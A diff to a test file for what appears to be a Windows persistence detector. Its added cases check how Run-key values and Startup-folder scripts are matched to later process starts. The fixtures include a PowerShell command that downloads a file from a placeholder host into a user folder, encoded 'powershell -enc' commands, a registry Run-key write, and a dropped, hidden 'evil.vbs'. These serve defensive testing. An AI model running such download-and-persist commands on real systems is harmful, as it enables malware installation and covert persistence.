@@ -45,6 +45,8 @@ CURL = r"C:\Windows\System32\curl.exe"
 WSCRIPT = r"C:\Windows\System32\wscript.exe"
 RUNDLL32 = r"C:\Windows\System32\rundll32.exe"
 POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+PWSH = r"C:\Program Files\PowerShell\7\pwsh.exe"
+FETCH = r"-c iwr http://203.0.113.9/s -o C:\Users\anna\s"
 SCRIPT = r"C:\Users\anna\AppData\Local\Temp\start up.vbs"
 LIBRARY = r"C:\ProgramData\helper.dll"
 ONEDRIVE = r"C:\Users\anna\AppData\Local\Microsoft\OneDrive\OneDrive.exe"
@@ -84,6 +86,7 @@ def expect(stages: list[str], *added: str, **fields: str) -> Expected:
 
 WRITER = started("10:00:00", DROPPER, "setup.exe /quiet", process="d", pid="100", parent=EXPLORER, parent_process="e")
 LOGON = started("10:30:00", EVIL, process="f", pid="300", parent=EXPLORER, hashes=HASHES)
+FIRED_ONLY = expect(["registered", "executed", "fired"], FIRED)
 
 CASES = [
     # Every stage, and its absence
@@ -255,6 +258,33 @@ CASES = [
         "a script that writes the value again", set_value("10:02:00", r"wscript C:\ProgramData\a.vbs"),
         started("10:03:00", POWERSHELL, r"powershell -c Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run Updater 'wscript C:\ProgramData\a.vbs'", process="1"),
         Updater=expect(REGISTERED),
+    ),
+    # Commands that name their program without a folder
+    *(
+        case(name, set_value("10:02:00", data), started("10:30:00", image, run, process="f", parent=EXPLORER), Updater=label)
+        for name, data, image, run, label in (
+            ("a program named without a folder", "powershell.exe -enc SQBFAFgA", POWERSHELL, f'"{POWERSHELL}" -enc SQBFAFgA', FIRED_ONLY),
+            ("a program named without folder and extension", "powershell -enc SQBFAFgA", POWERSHELL, f'"{POWERSHELL}" -enc  SQBFAFgA', FIRED_ONLY),
+            ("the same program with other arguments", "powershell.exe -enc SQBFAFgA", POWERSHELL, f'"{POWERSHELL}" -enc ZABpAHIA', expect(REGISTERED)),
+            ("another program with the same arguments", "powershell.exe -enc SQBFAFgA", PWSH, f'"{PWSH}" -enc SQBFAFgA', expect(REGISTERED)),
+            ("a program without arguments", 'powershell.exe ""', POWERSHELL, f'"{POWERSHELL}"', expect(REGISTERED)),
+            ("a run that names no folder, by its image", f"{POWERSHELL} -enc SQBFAFgA", POWERSHELL, "powershell -enc SQBFAFgA", FIRED_ONLY),
+            ("a run that names no folder, of another file", f"{POWERSHELL} {FETCH}", r"C:\Temp\powershell.exe", f"powershell {FETCH}", expect(REGISTERED)),
+            ("a user's file as argument", f"powershell {FETCH}", POWERSHELL, rf"C:\Users\ben\powershell.exe {FETCH}", FIRED_ONLY),
+            ("another user's file as argument", f"powershell {FETCH}", POWERSHELL, rf"C:\Users\anna\powershell.exe {FETCH.replace('anna', 'ben')}", expect(REGISTERED)),
+        )
+    ),
+    # A file in the Startup folder
+    case(
+        "a script in the Startup folder, started by the logon", dropped("10:01:00", STARTUP + r"\evil.vbs", process="d"),
+        started("10:30:00", WSCRIPT, rf'"{WSCRIPT}" "{STARTUP}\evil.vbs"', process="f", parent=EXPLORER),
+        **{"evil.vbs": expect(ALL_STAGES, FIRED, exec_image=WSCRIPT)},
+    ),
+    case(
+        "a script in the Startup folder that is only hidden and deleted", dropped("10:01:00", STARTUP + r"\evil.vbs", process="d"),
+        started("10:03:00", r"C:\Windows\System32\attrib.exe", rf'attrib +h "{STARTUP}\evil.vbs"', process="1"),
+        started("10:04:00", CMD, rf'cmd /c del "{STARTUP}\evil.vbs"', process="2"),
+        **{"evil.vbs": expect(TO_REGISTERED)},
     ),
     case("one of Windows' own programs", set_value("10:02:00", r"C:\Windows\System32\cmd.exe"), started("10:30:00", CMD, process="f", parent=EXPLORER), Updater=expect(REGISTERED)),
     case(
